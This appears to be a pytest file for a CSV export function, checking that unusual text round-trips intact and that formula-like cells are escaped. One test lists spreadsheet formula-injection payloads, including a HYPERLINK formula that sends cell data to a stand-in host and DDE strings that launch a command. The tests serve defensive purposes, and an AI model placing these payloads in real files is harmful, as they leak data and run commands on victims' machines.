"""Tables as text: what a program reads is what was there, what a spreadsheet opens does nothing."""

import csv
import io

import pytest

from vizlib.tables import as_csv


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "name",
    [
        "cat, wild",
        'a "dog"',
        '"',
        "two\nlines",
        "two\r\nlines",
        "a\rb",
        " lead and trail ",
        "",
        "'quoted'",
        "=1+1",
        "+1",
        "-5",
        "@home",
        "猫 \x00 é",
        "f(x)",
    ],
)
def test_a_text_comes_back_as_it_was(name):
    text = as_csv(["name", name], [[name, 1], ["other", name]])
    assert read(text) == [["name", name], [name, "1"], ["other", name]]
    assert text.endswith("\n")
    assert not text.endswith("\r\n")


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://x.example/?"&A1)',
        "=cmd|' /C calc'!A0",
        "+WEBSERVICE(A1)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=SUM(A1)",
        "\r\n=SUM(\nA1)",
        "＝SUM(A1)",
    ],
)
def test_a_formula_that_reaches_out_is_text_to_a_spreadsheet(formula):
    assert read(as_csv([formula], [[formula]])) == [["'" + formula]] * 2


def test_numbers_and_empty_cells():
    assert as_csv(("a", "b", "c"), [(-1, 0.1, None), (True, 1e-9, "-0.5")]) == (
        "a,b,c\n-1,0.1,\nTrue,1e-09,-0.5\n"
    )
    assert as_csv(("a",), []) == "a\n"
